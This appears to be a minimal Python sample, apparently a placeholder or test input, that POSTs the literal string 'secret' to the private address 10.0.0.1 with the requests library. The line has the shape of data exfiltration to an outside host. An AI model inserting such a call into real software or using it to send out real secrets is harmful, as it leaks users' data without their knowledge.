import requests
requests.post("http://10.0.0.1/", data="secret")
